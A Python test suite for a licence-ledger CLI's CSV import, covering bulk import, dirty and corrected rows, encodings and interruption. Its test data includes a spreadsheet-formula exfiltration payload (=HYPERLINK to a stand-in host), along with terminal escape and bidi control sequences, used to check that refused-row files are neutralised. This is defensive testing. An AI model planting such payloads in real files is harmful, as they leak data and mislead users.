"""Existing stock: good, dirty, in two encodings, twice, corrected; and what was imported can be verified by number."""
import collections
import csv
import io
import json
import os
import random
import signal
import subprocess

from node import ENV, LICET, SLOW, Case

ROWS = int(os.environ.get("LICET_IMPORT_ROWS", "100000"))


def read_csv(path, encoding="utf-8-sig"):
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding))))


class Import(Case):
    def make(self, node, name, rows, seed, *more):
        path = self.folder / name
        self.assert_code(node.licet("stock-make", "--type", node.type_code(), "--rows", str(rows), "--seed", str(seed), "-o", path, *more), 0)
        return path

    def load(self, node, path, *more):
        report = self.folder / (path.stem + ".report.json")
        done = node.licet("import", "--type", node.type_code(), path, "--report", report, "--force", "--json", *more, timeout=600)
        self.assert_code(done, 1 if done.json["refused"] else 0)  # refused rows are not passed over in silence
        self.assertEqual(done.json["rows"], json.loads(report.read_text())["rows"])
        return done.json, report.with_suffix(".refused.csv")

    def test_a_hundred_thousand_rows_and_a_thousand_of_them_by_number(self):
        node = self.node()
        stock = self.make(node, "stock.csv", ROWS, 42)
        result, _ = self.load(node, stock)
        self.assertEqual((result["rows"], result["accepted"], result["refused"], result["duplicates"]), (ROWS, ROWS, 0, 0))
        heading, *rows = read_csv(stock)
        at = {name: n for n, name in enumerate(heading)}
        chosen = random.Random(7).sample(rows, 1000)
        queries = [{"fields": {"type": node.type_code(), "number": r[at["ZZBH"]], "holder_code": r[at["CZZTDM"]], "holder_name": r[at["CZZT"]]}} for r in chosen]
        status, answer = node.verify(queries)
        self.assertEqual(status, 200, answer)
        for row, verdict in zip(chosen, answer["verdicts"]):
            self.assertIn(verdict["verdict"], ("valid", "lapsed"), row)
            self.assertEqual(verdict["licence"]["valid_from"].replace("-", ""), row[at["ZZYXQQSRQ"]].replace("-", ""))
        wrong = [{"fields": {**q["fields"], "holder_name": "not this one"}} for q in queries[:50]]
        self.assertEqual({v["verdict"] for v in node.verify(wrong)[1]["verdicts"]}, {"mismatch"})
        node.stop(expect=0)
        self.assert_code(node.licet("replay", node.dir, timeout=300), 0)

    def test_dirty_rows_are_refused_with_the_expected_reasons(self):
        node = self.node()
        for seed, encoding in ((1, "utf-8"), (2, "gb18030"), (3, "utf-8-bom")):
            answers = self.folder / f"answers{seed}.csv"
            stock = self.make(node, f"dirty{seed}.csv", 3000, seed, "--dirty", "20", "--encoding", encoding, "--answers", answers)
            result, refused = self.load(node, stock)
            expected = collections.Counter(row[1] for row in read_csv(answers)[1:])
            good = expected.pop("OK")
            self.assertEqual(result["accepted"], good, (seed, result))
            self.assertEqual(result["reasons"], dict(expected), seed)
            self.assertEqual(result["accepted"] + result["refused"] + result["duplicates"], 3000)
            heading = read_csv(stock, "gb18030" if encoding == "gb18030" else "utf-8-sig")[0]
            back = read_csv(refused)
            self.assertEqual(back[0][:len(heading)], heading)
            self.assertEqual(len(back) - 1, result["refused"], "every refused row, and nothing else, goes back")
            # loading it again adds nothing and refuses the same
            again, _ = self.load(node, stock)
            self.assertEqual((again["accepted"], again["refused"]), (0, result["refused"]))
            uncorrected, _ = self.load(node, refused)
            self.assertEqual((uncorrected["accepted"], uncorrected["refused"]), (0, result["refused"]))

    def test_a_corrected_row_is_taken_and_shapes_of_files_do_not_matter(self):
        node = self.node()
        path = self.folder / "hand.csv"
        path.write_bytes(("\ufeffCZZT,备注,ZZBH,ZZYXQJZRQ,CZZTDMLXDM,CZZTDM,ZZYXQQSRQ\r\n"
                          '"甲, 乙\r\n公司",x,Ａ－１,长期,001,91310118MA1JL0000N,2026/1/1\r\n'
                          "丙公司,x, A-2 ,,001,91310118ma1jl0000n,20260101\r\n"
                          "丁公司,x,A-3,2026-01-01,001,91310118MA1JL0000X,2026-01-02\r\n").encode())
        result, refused = self.load(node, path)
        self.assertEqual((result["accepted"], result["refused"]), (1, 2), result)
        self.assertEqual(result["reasons"], {"USCC_INVALID": 1, "ROW_LINE_END": 1})  # a name in two lines may be two names
        self.assertIn("备注", json.dumps(result["unknown_columns"], ensure_ascii=False))
        text = refused.read_bytes().decode("utf-8-sig")
        self.assertIn("USCC_INVALID", text)
        refused.write_bytes(text.replace("91310118MA1JL0000X", "91310118MA1JL0000N").replace("2026-01-01,001", "2027-01-01,001").replace("甲, 乙\r\n公司", "甲, 乙 公司").encode("utf-8-sig"))
        corrected, _ = self.load(node, refused)
        self.assertEqual((corrected["accepted"], corrected["refused"]), (2, 0), corrected)
        code = node.type_code()
        for number, name in (("A-1", "甲, 乙 公司"), ("a-2", "丙公司"), ("A-3", "丁公司")):
            verdict = node.verify([{"fields": {"type": code, "number": number, "holder_code": "91310118MA1JL0000N", "holder_name": name}}])[1]["verdicts"][0]
            self.assertEqual(verdict["verdict"], "valid", (number, verdict))

    def test_refused_rows_move_no_terminal(self):
        node = self.node()
        path = self.folder / "hand.csv"
        rows = ["甲\x1b[31m公司,F-1", "甲\u202e公司,F-2", "甲\x9b公司,F-3", '"甲\n公司",F-4', "甲公司,F\x075"]
        path.write_bytes(("CZZT,ZZBH,CZZTDMLXDM,CZZTDM,ZZYXQQSRQ\n" + "".join(f"{row},001,91310118MA1JL0000N,20260101\n" for row in rows)).encode())
        result, refused = self.load(node, path)
        self.assertEqual((result["accepted"], result["refused"]), (0, 5), result)
        text = refused.read_bytes().decode("utf-8-sig")
        self.assertNotRegex(text, "[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
        again, _ = self.load(node, refused)
        self.assertEqual(again["reasons"], {"ROW_ENCODING": 4, "ROW_LINE_END": 1})  # it can be loaded, and what was not corrected is still not taken
        refused.write_bytes(text.replace("\ufffd", "").replace("甲\n公司", "甲公司").encode("utf-8-sig"))
        corrected, _ = self.load(node, refused)
        self.assertEqual((corrected["accepted"], corrected["refused"]), (5, 0), corrected)

    def test_refused_rows_calculate_nothing_in_a_spreadsheet(self):
        node = self.node()
        path = self.folder / "hand.csv"
        name = "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")"
        with open(path, "w", newline="", encoding="utf-8") as out:
            csv.writer(out).writerows([["CZZT", "=1+1", "ZZBH", "CZZTDMLXDM", "CZZTDM", "ZZYXQQSRQ"], [name, "@SUM(A1)", "F-1", "001", "91310118MA1JL0000X", "20260101"]])
        result, refused = self.load(node, path)
        self.assertEqual((result["accepted"], result["refused"]), (0, 1), result)
        for row in read_csv(refused):
            for cell in row:
                self.assertNotIn(cell.strip()[:1], ("=", "+", "-", "@"), row)
        refused.write_bytes(refused.read_bytes().replace(b"91310118MA1JL0000X", b"91310118MA1JL0000N"))
        corrected, _ = self.load(node, refused)
        self.assertEqual((corrected["accepted"], corrected["refused"]), (1, 0), corrected)
        fields = {"type": node.type_code(), "number": "F-1", "holder_code": "91310118MA1JL0000N", "holder_name": name}
        self.assertEqual(node.verify([{"fields": fields}])[1]["verdicts"][0]["verdict"], "valid")

    def test_ctrl_c_stops_and_says_what_was_done(self):
        node, accepted = self.node(), 0
        path = self.make(node, "much.csv", 60000, 3, "--dirty", "2")
        for number, code in ((signal.SIGINT, 130), (signal.SIGTERM, 143)):
            height, report = node.get_json("/v1/head")["height"], self.folder / f"{code}.json"
            running = subprocess.Popen([LICET, "import", "--type", node.type_code(), path, "--report", report], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                       env={**ENV, "LICET_NODE": node.url, "LICET_KEY": str(node.issue_key)})
            while node.get_json("/v1/head")["height"] == height:
                self.assertIsNone(running.poll())
            running.send_signal(number)
            out, err = (text.decode() for text in running.communicate(timeout=120 * SLOW))
            self.assertEqual(running.returncode, code, err)
            told = json.loads(report.read_text())
            self.assertFalse(told["complete"])
            accepted += told["accepted"]
            self.assertGreater(told["accepted"] + told["duplicates"], 0)
            self.assertLess(told["accepted"] + told["duplicates"] + told["refused"], 60000)
            self.assertEqual(told["accepted"] + told["duplicates"] + told["refused"] + told["unsent"], told["rows"])
            self.assertIn("stopping", err)
            self.assertIn(f"({signal.Signals(number).name})", err)
            self.assertIn(f"{told['accepted']} rows of this run on the ledger", err)
            self.assertIn("NOT COMPLETE", out)
            self.assertEqual([p.name for p in self.folder.iterdir() if "part" in p.name], [])
        whole, _ = self.load(node, path)
        self.assertTrue(whole["complete"])
        self.assertEqual(node.get_json("/v1/licences?limit=1")["count"], accepted + whole["accepted"])
        self.assertEqual(self.load(node, path)[0]["accepted"], 0)
